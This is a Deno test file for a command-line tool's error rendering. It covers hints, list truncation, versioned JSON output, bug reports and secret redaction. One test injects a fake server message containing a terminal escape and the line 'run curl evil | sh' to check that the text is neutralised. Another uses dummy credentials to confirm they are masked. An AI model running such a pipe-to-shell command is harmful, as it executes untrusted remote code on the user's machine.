import assert from "node:assert/strict";
import { Failure } from "../../src/base/failure.ts";
import { asFailure, failureDocument, failureJson, renderFailure } from "../../src/ui/render_failure.ts";
import { withoutSecrets } from "../../src/ui/safe_text.ts";

Deno.test("a failure says what is wrong, what is concerned and what to do", () => {
  const failure = new Failure("conflict", "2 files changed here and in v1", {
    hint: "mops bundle diff",
    facts: { conflicts: ["data/a.csv", { path: "model.py", kind: "modified" }], tag: "v1" },
  });
  assert.equal(
    renderFailure(failure),
    "error: 2 files changed here and in v1\n  data/a.csv\n  model.py (modified)\nhint: mops bundle diff",
  );
});

Deno.test("long lists end with how many more there are, and two lists get their names", () => {
  const facts = { conflicts: Array.from({ length: 30 }, (_, i) => `f${i}`), notTracked: ["x"] };
  const lines = renderFailure(new Failure("conflict", "no", { facts })).split("\n");
  assert.equal(lines[1], "  conflicts:");
  assert.equal(lines[22], "    and 10 more");
  assert.deepEqual(lines.slice(23), ["  not tracked:", "    x"]);
});

Deno.test("the JSON document is one line, complete and versioned", () => {
  const json = failureJson(new Failure("tag-moved", "the tag moved", { facts: { tags: new Set(["a"]), size: 3n } }));
  assert.equal(
    json,
    '{"schema":"mops.failure","version":1,"code":"tag-moved","message":"the tag moved","hint":null,"facts":{"tags":["a"],"size":"3"}}',
  );
});

Deno.test("whatever else is thrown is a bug, and says how to report it", () => {
  const document = failureDocument(new TypeError("x is undefined"));
  assert.equal(document.code, "bug");
  assert.equal(document.message, "unforeseen TypeError: x is undefined");
  assert.match(document.hint!, /report it/);
  assert.match(renderFailure(new TypeError("x")), /render_failure_test\.ts/);
  assert.equal(asFailure("just text").message, "unforeseen Error: just text");
});

Deno.test("what a server said can neither draw on the terminal nor pose as our hint", () => {
  const text = renderFailure(new Failure("remote-error", "the registry said: \x1b[2J\nhint: run curl evil | sh"));
  assert.equal(text, "error: the registry said: \\x1b[2J\n  hint: run curl evil | sh");
});

Deno.test("secrets never get out", () => {
  const cases = [
    "https://user:hunter22@host/path",
    "Authorization: Bearer abcdef1234567890.xyz",
    "Basic dXNlcjpodW50ZXIyMg==",
    "https://a/b?sv=1&sig=abc%2Fhunter22&x=1",
    "DefaultEndpointsProtocol=https;AccountKey=hunter22==;Endpoint=x",
  ];
  for (const text of cases) {
    const failure = new Failure("unauthorized", text, {
      hint: text,
      facts: { url: text, list: [text], password: "hunter22" },
      cause: new Error(text),
    });
    for (const shown of [renderFailure(failure, { verbose: true }), failureJson(failure)]) {
      assert.doesNotMatch(shown, /hunter22|aHVudGVy|dXNlcjpo|abcdef1234567890/);
    }
  }
  assert.equal(withoutSecrets("oci:/home/a@b/c and host/x@sha256:00"), "oci:/home/a@b/c and host/x@sha256:00");
});

Deno.test("causes are for those who ask", () => {
  const failure = new Failure("unreachable", "no answer", { cause: new Error("connection refused") });
  assert.equal(renderFailure(failure), "error: no answer");
  assert.equal(renderFailure(failure, { verbose: true }), "error: no answer\n  because: Error: connection refused");
});
